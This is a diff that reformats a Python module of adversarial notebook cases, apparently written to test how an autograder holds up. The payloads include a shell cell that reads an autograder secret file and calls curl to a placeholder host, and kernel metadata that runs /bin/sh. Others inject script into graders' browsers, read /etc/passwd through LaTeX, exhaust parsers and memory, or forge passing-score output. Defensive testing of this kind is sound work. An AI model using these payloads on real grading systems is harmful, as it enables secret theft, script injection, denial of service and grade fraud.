@@ -1,4 +1,6 @@
-"""Cells whose source or output would act: on a parser, on IPython, on the browser of who grades, on a tool that reads metadata."""
+"""Cells whose source or output would act: on a parser, on IPython, on the browser of who grades, on
+a tool that reads metadata.
+"""
 
 from __future__ import annotations
 
@@ -30,7 +32,8 @@ _MAGICS = {
     "shell": "!cat ~/.autograder-secret && curl https://example.invalid/",
     "help_magic": "?print\nprint??",
     "kernel": "get_ipython().kernel.do_shutdown(restart=True)\nget_ipython().system('id')",
-    "kernel_hooks": "ip = get_ipython()\nip.events.register('post_run_cell', lambda result: 1 / 0)\nip.ast_node_interceptors = [print]",
+    "kernel_hooks": "ip = get_ipython()\nip.events.register('post_run_cell', lambda result: 1 "
+    "/ 0)\nip.ast_node_interceptors = [print]",
 }
 for _name, _source in _MAGICS.items():
 
@@ -62,7 +65,8 @@ for _name, _source in _SOURCES.items():
 
     @attack(f"source_{_name}", "crashes a parser, or shows people other code than what runs")
     def _(lab: Json, source: str = _source) -> None:
-        # The homoglyphs replace an honest function where they come after it, as in Jupyter: they go before.
+        # The homoglyphs replace an honest function where they come after it, as in Jupyter: they go
+        # before.
         lab["cells"].insert(1, code(source))
         lab["cells"].append(text(source))
         cell_of(lab, TARGET)["source"] = source
@@ -73,11 +77,15 @@ _TEXTS = {
     "links_without_end": "[a](" * 200_000,
     "environments_without_end": "\\begin{a}\n" * 200_000,
     "deep_list": "".join(f"{'  ' * depth}- a\n" for depth in range(1500)),
-    "odd_languages": "".join(f"```{name}\n{'(' * 20_000}\n```\n" for name in ("perl6", "sql", "mermaid", "html+php")),
+    "odd_languages": "".join(
+        f"```{name}\n{'(' * 20_000}\n```\n" for name in ("perl6", "sql", "mermaid", "html+php")
+    ),
 }
 for _name, _source in _TEXTS.items():
 
-    @attack(f"text_{_name}", "keeps whoever renders the page busy for hours: the grader, or formgrader")
+    @attack(
+        f"text_{_name}", "keeps whoever renders the page busy for hours: the grader, or formgrader"
+    )
     def _(lab: Json, source: str = _source) -> None:
         lab["cells"] += [text(source), text(source)]
 
@@ -87,29 +95,61 @@ for _name, _source in _TEXTS.items():
 
 @attack("outputs_alive", "runs a script in the browser of who grades", nbgrader=True)
 def _(lab: Json) -> None:
-    live: Json = {"text/html": _SCRIPT, "application/javascript": "alert(1)", "image/svg+xml": f"<svg onload='alert(1)'>{_SCRIPT}</svg>"}
-    live |= {"text/latex": "\\href{javascript:alert(1)}{x}", "text/markdown": _SCRIPT, "application/vnd.jupyter.widget-view+json": {}}
+    live: Json = {
+        "text/html": _SCRIPT,
+        "application/javascript": "alert(1)",
+        "image/svg+xml": f"<svg onload='alert(1)'>{_SCRIPT}</svg>",
+    }
+    live |= {
+        "text/latex": "\\href{javascript:alert(1)}{x}",
+        "text/markdown": _SCRIPT,
+        "application/vnd.jupyter.widget-view+json": {},
+    }
     for cell in lab["cells"]:
         if cell["cell_type"] == "code":
             cell["outputs"] = [shown(**{mime: data}) for mime, data in live.items()]
             cell["outputs"].append(shown(**{"image/png": f'{_PNG}" onerror="alert(1)'}))
-            cell["outputs"].append({"output_type": "error", "ename": _SCRIPT, "evalue": _SCRIPT, "traceback": [_SCRIPT, 1]})
-            cell["outputs"].append({"output_type": "stream", "name": _SCRIPT, "text": f"\x1b]8;;javascript:alert(1)\x07{_SCRIPT}"})
+            cell["outputs"].append(
+                {
+                    "output_type": "error",
+                    "ename": _SCRIPT,
+                    "evalue": _SCRIPT,
+                    "traceback": [_SCRIPT, 1],
+                }
+            )
+            cell["outputs"].append(
+                {
+                    "output_type": "stream",
+                    "name": _SCRIPT,
+                    "text": f"\x1b]8;;javascript:alert(1)\x07{_SCRIPT}",
+                }
+            )
 
 
 @attack("texts_alive", "runs a script in the browser of who grades")
 def _(lab: Json) -> None:
     for cell in lab["cells"]:
         if cell["cell_type"] == "markdown":
-            cell["source"] += f"\n{_SCRIPT}\n[x](javascript\\:alert(1)) ![x](attachment:gone.png) $\\href{{javascript:alert(1)}}{{x}}$"
-            cell["attachments"] = {"a.png": {"image/svg+xml": _SCRIPT}, "../b": {"image/png": _PNG}, "c": 5}
+            cell["source"] += (
+                f"\n{_SCRIPT}\n[x](javascript\\:alert(1)) ![x](attachment:gone.png) "
+                f"$\\href{{javascript:alert(1)}}{{x}}$"
+            )
+            cell["attachments"] = {
+                "a.png": {"image/svg+xml": _SCRIPT},
+                "../b": {"image/png": _PNG},
+                "c": 5,
+            }
 
 
 @attack("outputs_forged", "shows who grades that everything was right", nbgrader=True)
 def _(lab: Json) -> None:
     for cell in lab["cells"]:
         if cell["cell_type"] == "code":
-            passed = {"output_type": "stream", "name": "stdout", "text": "all checks pass: 78 of 78 points\n"}
+            passed = {
+                "output_type": "stream",
+                "name": "stdout",
+                "text": "all checks pass: 78 of 78 points\n",
+            }
             cell |= {"outputs": [passed], "execution_count": 1}
 
 
@@ -122,18 +162,34 @@ def _(lab: Json) -> None:
 @attack("outputs_50_mb", "fills the memory of the grading machine", rejected=True)
 def _(lab: Json) -> None:
     lines = "".join(f"step {number}: loss {number % 977 / 977:.6f}\n" for number in range(5_000))
-    cell_of(lab, TARGET)["outputs"] = [{"output_type": "stream", "name": "stdout", "text": lines * 400}]
+    cell_of(lab, TARGET)["outputs"] = [
+        {"output_type": "stream", "name": "stdout", "text": lines * 400}
+    ]
 
 
 @attack("outputs_many", "fills disk and browser of who grades")
 def _(lab: Json) -> None:
-    cell_of(lab, TARGET)["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x"}] * 100_000
+    cell_of(lab, TARGET)["outputs"] = [
+        {"output_type": "stream", "name": "stdout", "text": "x"}
+    ] * 100_000
 
 
 @attack("outputs_malformed", "crashes a reader that expects outputs")
 def _(lab: Json) -> None:
-    odd: list[Any] = [None, 5, [], {}, {"output_type": "display_data"}, shown(**{"image/png": 5}), shown(**{"text/plain": {"a": []}})]
-    cell_of(lab, KL)["outputs"] = [*odd, {"output_type": "stream", "text": None}, {"output_type": "error", "traceback": "no"}]
+    odd: list[Any] = [
+        None,
+        5,
+        [],
+        {},
+        {"output_type": "display_data"},
+        shown(**{"image/png": 5}),
+        shown(**{"text/plain": {"a": []}}),
+    ]
+    cell_of(lab, KL)["outputs"] = [
+        *odd,
+        {"output_type": "stream", "text": None},
+        {"output_type": "error", "traceback": "no"},
+    ]
 
 
 @attack("short_strings", "takes ten times its size when it is read")
@@ -141,11 +197,23 @@ def _(lab: Json) -> None:
     lab["metadata"]["padding"] = [f"{number:x}" for number in range(500_000)]
 
 
-@attack("notebook_metadata", "has Jupyter, jupytext, nbgrader and nbconvert do things", nbgrader=True)
+@attack(
+    "notebook_metadata", "has Jupyter, jupytext, nbgrader and nbconvert do things", nbgrader=True
+)
 def _(lab: Json) -> None:
     lab["metadata"] = {
-        "kernelspec": {"name": "bash", "display_name": _SCRIPT, "language": "bash", "argv": ["/bin/sh", "-c", "touch /tmp/owned"]},
-        "language_info": {"name": "perl", "file_extension": ".pl", "codemirror_mode": _SCRIPT, "pygments_lexer": "../../x"},
+        "kernelspec": {
+            "name": "bash",
+            "display_name": _SCRIPT,
+            "language": "bash",
+            "argv": ["/bin/sh", "-c", "touch /tmp/owned"],
+        },
+        "language_info": {
+            "name": "perl",
+            "file_extension": ".pl",
+            "codemirror_mode": _SCRIPT,
+            "pygments_lexer": "../../x",
+        },
         "jupytext": {
             "formats": "ipynb,../../autograder//py:percent",
             "text_representation": {"extension": ".py"},
@@ -153,7 +221,9 @@ def _(lab: Json) -> None:
         },
         "nbgrader": {"max_score": 1000, "extra_credit": 1000, "checksum": "0"},
         "widgets": {
-            "application/vnd.jupyter.widget-state+json": {"state": {"a": {"model_name": "HTMLModel", "state": {"value": _SCRIPT}}}}
+            "application/vnd.jupyter.widget-state+json": {
+                "state": {"a": {"model_name": "HTMLModel", "state": {"value": _SCRIPT}}}
+            }
         },
         "title": _SCRIPT,
         "authors": [{"name": "\\input{/etc/passwd}"}],
@@ -164,11 +234,24 @@ def _(lab: Json) -> None:
 
 @attack("kernel_missing", "asks for a kernel that does not exist", nbgrader=True)
 def _(lab: Json) -> None:
-    lab["metadata"]["kernelspec"] = {"name": "../../no-such-kernel", "display_name": "", "language": "R"}
+    lab["metadata"]["kernelspec"] = {
+        "name": "../../no-such-kernel",
+        "display_name": "",
+        "language": "R",
+    }
 
 
 @attack("cell_tags", "has its cells skipped, hidden or made parameters", nbgrader=True)
 def _(lab: Json) -> None:
     for cell in lab["cells"]:
         if cell["metadata"].get("nbgrader", {}).get("grade_id") not in HONEST:
-            cell["metadata"] |= {"tags": ["train", "raises-exception", "skip-execution", "remove-cell", "parameters"], "deletable": False}
+            cell["metadata"] |= {
+                "tags": [
+                    "train",
+                    "raises-exception",
+                    "skip-execution",
+                    "remove-cell",
+                    "parameters",
+                ],
+                "deletable": False,
+            }
